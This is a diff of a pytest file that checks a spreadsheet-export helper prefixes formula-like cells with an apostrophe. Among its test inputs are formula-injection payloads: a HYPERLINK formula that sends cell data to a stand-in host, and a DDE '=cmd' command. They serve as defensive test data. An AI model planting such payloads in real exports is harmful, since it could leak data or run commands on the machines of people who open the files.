@@ -7,12 +7,12 @@ from core.export import neutralise_formula, neutralise_frame, neutralise_rows
 
 
 @pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?d="&A1,"Ver")', "+1+1", "-2+3", "@SUM(A1:A9)",
-                                   "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
+                                   "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=1", "-12.50", "+3"])
 def test_formula_cells_get_an_apostrophe(value):
     assert neutralise_formula(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["Ana López", "ana@empresa.mx", "-12.50", "+3", "-$1,234.50", "—", "", 5, -3.5,
+@pytest.mark.parametrize("value", ["Ana López", "ana@empresa.mx", "—", "", 5, -3.5,
                                    None, True])
 def test_plain_text_numbers_and_non_text_stay(value):
     assert neutralise_formula(value) == value
